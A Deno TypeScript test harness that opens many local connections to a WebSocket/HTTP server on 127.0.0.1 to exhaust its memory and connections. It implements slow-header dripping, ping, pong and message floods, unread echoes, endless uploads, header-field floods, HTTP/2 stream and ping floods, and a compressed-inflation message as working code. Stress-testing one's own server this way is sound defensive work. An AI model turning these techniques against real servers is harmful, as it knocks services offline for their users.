// Attacks a server on this machine until the process is killed: attack.ts PORT KIND:COUNT[:EXTRA]…
// Prints "ready" when every connection has reached its state. After that the attacks continue slowly, since only their number
// matters. The library isn't used.

const KEY = "dGhlIHNhbXBsZSBub25jZQ==";
const PAUSE = 1000;

const text = (string: string) => new TextEncoder().encode(string);
const HEAD = "GET / HTTP/1.1\r\nHost: x\r\n";
const REQUEST = text(
  `${HEAD}Upgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Key: ${KEY}\r\n` +
    "Sec-WebSocket-Version: 13\r\n",
);
const END = text("\r\n");
const DEFLATE = text("Sec-WebSocket-Extensions: permessage-deflate\r\n");

/** A frame whose key is zero, so that its payload needs no masking. */
function frame(first: number, payload: Uint8Array, announced = payload.length): Uint8Array {
  const size = announced < 126 ? 0 : announced < 65536 ? 2 : 8;
  const bytes = new Uint8Array(6 + size + payload.length), view = new DataView(bytes.buffer);
  bytes[0] = first;
  bytes[1] = 0x80 | (size === 0 ? announced : size === 2 ? 126 : 127);
  if (size === 2) view.setUint16(2, announced);
  if (size === 8) view.setBigUint64(2, BigInt(announced));
  bytes.set(payload, bytes.length - payload.length);
  return bytes;
}

function times(part: Uint8Array, count: number): Uint8Array {
  const bytes = new Uint8Array(part.length * count);
  for (let i = 0; i < count; i++) bytes.set(part, i * part.length);
  return bytes;
}

async function write(conn: Deno.Conn, ...parts: Uint8Array[]): Promise<void> {
  for (const part of parts) {
    for (let at = 0; at < part.length;) at += await conn.write(part.subarray(at));
  }
}

async function upgrade(conn: Deno.Conn, ...more: Uint8Array[]): Promise<void> {
  await write(conn, REQUEST, ...more, END);
  const buffer = new Uint8Array(2048);
  let head = "";
  while (!head.includes("\r\n\r\n")) {
    const count = await conn.read(buffer);
    if (count === null) throw new Error("No answer");
    head += new TextDecoder().decode(buffer.subarray(0, count));
  }
}

/** Waits for an attack, or until the server closes the connection. */
function untilThrownOut<T>(attack: Promise<T>): Promise<T | null> {
  return attack.catch(() => null);
}

/** Reads everything and drops it. */
async function swallow(conn: Deno.Conn): Promise<void> {
  const buffer = new Uint8Array(16 * 1024);
  while (await untilThrownOut(conn.read(buffer)) !== null);
}

const rest = () => new Promise((resolve) => setTimeout(resolve, PAUSE * (0.5 + Math.random())));

// ---- HTTP/2 (RFC 9113) ----

const PREFACE = text("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n");
const DATA = 0, HEADERS = 1, SETTINGS = 4, PING = 6, WINDOW_UPDATE = 8, END_HEADERS = 4;
/** The initial window of a stream and of the connection. */
const WINDOW = 65_535;

function h2Frame(type: number, flags: number, stream: number, payload: Uint8Array): Uint8Array {
  const bytes = new Uint8Array(9 + payload.length), { length } = payload;
  bytes.set([length >> 16, length >> 8, length, type, flags, 0, 0, stream >> 8, stream]);
  bytes.set(payload, 9);
  return bytes;
}

/** Encodes a field block of literals. */
function h2Fields(fields: Record<string, string>): Uint8Array {
  const codes: number[] = [];
  for (const [name, value] of Object.entries(fields)) {
    codes.push(0, name.length, ...text(name), value.length, ...text(value));
  }
  return Uint8Array.from(codes);
}

const CONNECT = h2Fields({
  ":method": "CONNECT",
  ":protocol": "websocket",
  ":scheme": "http",
  ":path": "/",
  ":authority": "x",
  "sec-websocket-version": "13",
});

/** Opens an HTTP/2 connection with `count` WebSockets, each of which sends as much of `bytes` as its window allows. */
async function h2Sockets(
  conn: Deno.Conn,
  count: number,
  bytes: Uint8Array = new Uint8Array(0),
): Promise<void> {
  let answered = 0, credit = WINDOW, wake = () => {};
  const until = async (met: () => boolean) => {
    while (!met()) await new Promise<void>((resolve) => wake = resolve);
  };
  untilThrownOut((async () => {
    const buffer = new Uint8Array(64 * 1024);
    for (let filled = 0;;) {
      const read = await conn.read(buffer.subarray(filled));
      if (read === null) return;
      filled += read;
      let at = 0;
      const view = new DataView(buffer.buffer);
      while (filled - at >= 9) {
        const length = view.getUint32(at) >>> 8;
        if (filled - at < 9 + length) break;
        if (buffer[at + 3] === HEADERS) answered++;
        const isConnections = view.getUint32(at + 5) === 0;
        if (buffer[at + 3] === WINDOW_UPDATE && isConnections) credit += view.getUint32(at + 9);
        at += 9 + length;
      }
      buffer.copyWithin(0, at, filled);
      filled -= at;
      wake();
    }
  })());
  await write(conn, PREFACE, h2Frame(SETTINGS, 0, 0, new Uint8Array(0)));
  for (let n = 0; n < count; n++) {
    await write(conn, h2Frame(HEADERS, END_HEADERS, 2 * n + 1, CONNECT));
  }
  await until(() => answered === count);
  for (let n = 0; n < count; n++) {
    for (let at = 0; at < bytes.length;) {
      const part = bytes.subarray(at, at + 16_000);
      await until(() => credit >= part.length);
      credit -= part.length;
      at += part.length;
      await write(conn, h2Frame(DATA, 0, 2 * n + 1, part));
    }
  }
}

interface Attack {
  /** Reaches the state that costs memory. */
  begin(conn: Deno.Conn, extra: number): Promise<void>;
  /** Continues the attack; called repeatedly. */
  go?(conn: Deno.Conn): Promise<void>;
  /** Time between two calls of `go`, in ms. Default: about a second. */
  pause?: number;
}

// The number of bytes that attackers without a reader have written.
let moved = 0;

const TINY = times(frame(0x82, Uint8Array.of(1)), 100);
const PINGS = times(frame(0x89, new Uint8Array(100)), 100);
const FRAGMENTS = times(frame(0x00, Uint8Array.of(1)), 100);

/** Writes the same bytes repeatedly. Its state is reached with the first write. */
function flooding(
  open: (conn: Deno.Conn) => Promise<void>,
  bytes: Uint8Array,
  reads = false,
): Attack {
  return {
    async begin(conn) {
      await open(conn);
      if (reads) void swallow(conn);
    },
    go: (conn) => write(conn, bytes),
    pause: 0,
  };
}

const KINDS: Record<string, Attack> = {
  /** Connects and sends nothing. */
  async silent() {},
  /** An unfinished head of `extra` bytes. */
  async head(conn: Deno.Conn, extra: number) {
    const line = text(`X-Header: ${"x".repeat(1000)}\r\n`);
    const bytes = times(line, Math.ceil(extra / line.length)).subarray(0, Math.max(0, extra - 100));
    await write(conn, text(HEAD), bytes);
  },
  /** A head that comes byte by byte. */
  drip: {
    begin: (conn: Deno.Conn) => write(conn, text(HEAD + "X-Drip: ")),
    go: (conn: Deno.Conn) => write(conn, text("x")),
  },
  /** A silent open connection. */
  idle: { begin: (conn: Deno.Conn) => upgrade(conn) },
  /** A message of `extra` bytes so far without its last byte. */
  async partial(conn: Deno.Conn, extra: number) {
    await upgrade(conn);
    await write(conn, frame(0x82, new Uint8Array(extra), extra + 1));
  },
  /** The same as a fragmented text. */
  async partialText(conn: Deno.Conn, extra: number) {
    await upgrade(conn);
    await write(conn, frame(0x01, new Uint8Array(extra).fill(0x78)));
  },
  /** A frame that is announced and not sent. */
  async announced(conn: Deno.Conn) {
    await upgrade(conn);
    await write(conn, frame(0x82, new Uint8Array(0), 1 << 20));
  },
  /** Fragments of one byte. */
  fragments: {
    async begin(conn: Deno.Conn) {
      await upgrade(conn);
      await write(conn, frame(0x02, new Uint8Array(0)), FRAGMENTS);
    },
    go: (conn: Deno.Conn) => write(conn, FRAGMENTS),
  },
  /** `extra` bytes of messages whose echoes aren't read. */
  async deaf(conn: Deno.Conn, extra: number) {
    await upgrade(conn);
    const message = frame(0x82, new Uint8Array(32 * 1024));
    let done = false;
    const written = untilThrownOut((async () => {
      for (let at = 0; at < extra; at += 32 * 1024) {
        await write(conn, message);
        moved++;
      }
    })()).finally(() => done = true);
    // If the server stops reading, this never ends. The state is reached when no connection makes progress any more.
    for (let before = -1; !done && before !== moved;) {
      before = moved;
      await Promise.race([written, new Promise((resolve) => setTimeout(resolve, PAUSE))]);
    }
  },
  /** Messages of `extra` bytes without end whose echoes aren't read. */
  async deafTiny(conn: Deno.Conn, extra: number) {
    await upgrade(conn);
    const many = times(frame(0x82, new Uint8Array(extra)), Math.ceil(60_000 / (6 + extra)));
    untilThrownOut((async () => {
      for (;;) await write(conn, many);
    })());
  },
  /** An ordinary HTTP request with its response, and then silence. */
  async kept(conn: Deno.Conn) {
    await write(conn, text(HEAD), END);
    await conn.read(new Uint8Array(1024));
  },
  /** An endless body whose echo isn't read. */
  async upload(conn: Deno.Conn) {
    await write(conn, text("POST / HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n"));
    const chunk = text(`10000\r\n${"x".repeat(65_536)}\r\n`);
    untilThrownOut((async () => {
      for (;;) await write(conn, chunk);
    })());
  },
  /** An HTTP/2 connection without a stream. */
  h2Idle: (conn: Deno.Conn) => h2Sockets(conn, 0),
  /** An HTTP/2 connection with `extra` silent WebSockets. */
  h2Many: (conn: Deno.Conn, extra: number) => h2Sockets(conn, extra),
  /** An HTTP/2 connection with 100 WebSockets, whose windows are full of messages of `extra` bytes. */
  h2Held(conn: Deno.Conn, extra: number) {
    const many = times(frame(0x82, new Uint8Array(extra)), Math.ceil(WINDOW / (6 + extra)));
    return h2Sockets(conn, 100, many.subarray(0, WINDOW));
  },
  /** Pings over HTTP/2 whose answers aren't read. */
  async h2Pings(conn: Deno.Conn) {
    await write(conn, PREFACE, h2Frame(SETTINGS, 0, 0, new Uint8Array(0)));
    const many = times(h2Frame(PING, 0, 0, new Uint8Array(8)), 500);
    untilThrownOut((async () => {
      for (;;) {
        await write(conn, many);
        moved++;
      }
    })());
    // A busy server may once pause longer than that.
    for (let before = -1, rests = 0; rests < 3; rests = before === moved ? rests + 1 : 0) {
      before = moved;
      await new Promise((resolve) => setTimeout(resolve, PAUSE));
    }
  },
  /** Pings whose answers aren't read. */
  pings: {
    async begin(conn: Deno.Conn) {
      await upgrade(conn);
      await write(conn, PINGS);
    },
    go: (conn: Deno.Conn) => write(conn, PINGS),
  },
  /** Tiny messages whose echoes are read. */
  tiny: {
    async begin(conn: Deno.Conn) {
      await upgrade(conn);
      void swallow(conn);
    },
    go: (conn: Deno.Conn) => write(conn, TINY),
  },
  /** Empty messages as fast as possible, whose echoes aren't read; connects again when it is disconnected. */
  flood: flooding(upgrade, times(frame(0x82, new Uint8Array(0)), 10_000)),
  /** Pings as fast as possible. */
  pingFlood: flooding(upgrade, times(frame(0x89, new Uint8Array(100)), 600)),
  /** Pongs without pings. */
  pongFlood: flooding(upgrade, times(frame(0x8a, new Uint8Array(100)), 600)),
  /** HTTP requests that don't wait for responses. */
  pipeline: flooding(async () => {}, times(text("GET / HTTP/1.1\r\nHost: a\r\n\r\n"), 2000), true),
  /** Handshakes with the maximum number of fields, one after the other. */
  fields: {
    async begin(conn: Deno.Conn) {
      void swallow(conn);
      await write(conn, REQUEST, times(text("ab:\r\n"), 2600), END);
    },
    go: () => Promise.reject(new Error("Again")),
  },
  /** An HTTP request with its response, on a connection that stays open. */
  async request(conn: Deno.Conn) {
    await write(conn, text("GET / HTTP/1.1\r\nHost: a\r\n\r\n"));
    await conn.read(new Uint8Array(1000));
  },
  /** Violates the protocol, and waits for the end. */
  async broken(conn: Deno.Conn) {
    await upgrade(conn);
    await write(conn, Uint8Array.of(0xff, 0xff));
  },
  /** An unfinished compressed message, of `extra` bytes when inflated. */
  async deflated(conn: Deno.Conn, extra: number) {
    await upgrade(conn, DEFLATE);
    const { deflateRawSync, constants } = await import("node:zlib");
    const packed = deflateRawSync(new Uint8Array(extra), {
      finishFlush: constants.Z_SYNC_FLUSH,
    });
    await write(conn, frame(0x42, new Uint8Array(packed)));
  },
} as Record<string, Attack | Attack["begin"]> as Record<string, Attack>;

async function attack(port: number, kind: string, extra: number): Promise<void> {
  const entry = KINDS[kind] as Attack | Attack["begin"];
  const { begin, go, pause }: Attack = typeof entry === "function" ? { begin: entry } : entry;
  let conn = await Deno.connect({ hostname: "127.0.0.1", port });
  await untilThrownOut(begin(conn, extra));
  void (async () => {
    for (;;) {
      if (pause === undefined) await rest();
      try {
        if (go !== undefined) await go(conn);
        else if (kind !== "broken") continue;
        else throw new Error("Again");
      } catch {
        // Disconnected: connect again.
        try {
          conn.close();
        } catch {
          // The other side has closed it.
        }
        try {
          conn = await Deno.connect({ hostname: "127.0.0.1", port });
          await begin(conn, extra);
        } catch {
          // Try again later.
        }
      }
    }
  })();
}

const [port, ...kinds] = Deno.args;
for (const part of kinds) {
  const [kind, count, extra = "0"] = part.split(":");
  const open: Promise<void>[] = [];
  for (let i = 0; i < Number(count); i++) {
    open.push(attack(Number(port), kind, Number(extra)));
    // At most as many at once as the backlog holds.
    if (open.length === 100) await Promise.all(open.splice(0));
  }
  await Promise.all(open);
}
console.log("ready");
